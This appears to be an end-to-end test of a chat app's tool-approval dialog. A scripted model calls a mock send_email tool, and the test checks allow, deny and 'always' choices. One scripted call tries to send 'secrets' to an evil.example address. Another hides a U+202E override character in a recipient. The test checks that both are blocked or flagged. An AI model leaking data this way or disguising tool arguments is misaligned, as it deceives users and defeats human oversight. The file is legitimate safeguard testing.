import { join } from 'node:path';
import { defineTool } from '@codeact/core';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { docsScreenshots, openApp, scriptedReplies, token, useTestServer } from './harness.js';

const sent: string[] = [];
const sendEmail = defineTool({
  name: 'send_email',
  description: 'Sends an email.',
  parameters: z.object({ to: z.string(), body: z.string() }),
  returns: 'str',
  needsApproval: true,
  execute: ({ to }) => {
    sent.push(to);
    return `sent to ${to}`;
  },
});

const call = (to: string) => `<execute>\nprint(send_email(to=${JSON.stringify(to)}, body="hi"))\n</execute>`;
const script = {
  'Email Bob.': [call('bob@example.com'), '<solution>Sent.</solution>'],
  'Email Eve.': [
    `<execute>\ntry:\n    send_email(to="eve@evil.example", body="secrets")\nexcept PermissionError as error:\n    print("refused:", error)\n</execute>`,
    '<solution>Not sent.</solution>',
  ],
  'Email Carol twice.': [call('carol@example.com'), call('carol2@example.com'), '<solution>Both sent.</solution>'],
  'Email Dan.': [call('dan\u202E@example.com'), '<solution>Sent.</solution>'],
};

const e2e = useTestServer('approval', {
  models: [{ id: 'script:mailer', respond: scriptedReplies(script) }],
  tools: [sendEmail],
});

describe('tool approval in the browser', () => {
  it('asks before a needsApproval tool runs: allow once, deny, always for the conversation', async () => {
    const context = await e2e.browser.newContext({ viewport: { width: 390, height: 844 } });
    const page = await context.newPage();
    const dialog = page.getByTestId('approval');
    const send = async (text: string) => {
      await page.getByTestId('composer-input').fill(text);
      await page.getByTestId('send-button').click();
    };
    try {
      await openApp(page, `${e2e.server.running.url}/#token=${token}`);
      await send('Email Bob.');
      await dialog.waitFor({ timeout: 40_000 });
      expect(await dialog.locator('h2').textContent()).toBe('Allow send_email?');
      expect(JSON.parse((await page.getByTestId('approval-args').textContent()) ?? '')).toEqual({
        to: 'bob@example.com',
        body: 'hi',
      });
      expect(sent).toEqual([]);
      await page.getByTestId('approval-allow').click();
      await page.getByTestId('answer').waitFor({ timeout: 40_000 });
      expect(await dialog.count()).toBe(0);
      expect(sent).toEqual(['bob@example.com']);
      expect(await page.locator('.output.stdout').last().textContent()).toBe('sent to bob@example.com\n');

      await send('Email Eve.');
      await dialog.waitFor({ timeout: 40_000 });
      await page.getByTestId('approval-deny').click();
      await expect.poll(() => page.getByTestId('answer').count(), { timeout: 40_000 }).toBe(2);
      expect(sent).toEqual(['bob@example.com']);
      expect(await page.locator('.output.stdout').last().textContent()).toMatch(/^refused: .*send_email/);

      // "Always" covers the second call of the same turn without asking again.
      await send('Email Carol twice.');
      await dialog.waitFor({ timeout: 40_000 });
      await page.getByTestId('approval-always').click();
      await expect.poll(() => page.getByTestId('answer').count(), { timeout: 40_000 }).toBe(3);
      expect(sent).toEqual(['bob@example.com', 'carol@example.com', 'carol2@example.com']);

      // Still allowed in a later turn of this conversation...
      await send('Email Dan.');
      await expect.poll(() => page.getByTestId('answer').count(), { timeout: 40_000 }).toBe(4);
      expect(sent.at(-1)).toBe('dan\u202E@example.com');

      // ...but not in another one, where the arguments shown mark the hidden character.
      await page.getByTestId('menu').click();
      await page.getByTestId('new-conversation').click();
      await expect.poll(() => page.getByTestId('turn').count()).toBe(0);
      await send('Email Dan.');
      await dialog.waitFor({ timeout: 40_000 });
      expect(await dialog.locator('.invisible-char').allTextContents()).toEqual(['U+202E']);
      if (process.env.UPDATE_SCREENSHOTS === '1')
        await page.screenshot({ path: join(docsScreenshots, 'phone-tool-approval.png') });
      await page.getByTestId('approval-deny').click();
      await page.getByTestId('answer').waitFor({ timeout: 40_000 });
      expect(sent).toHaveLength(4);
    } finally {
      await context.close();
    }
  }, 120_000);
});
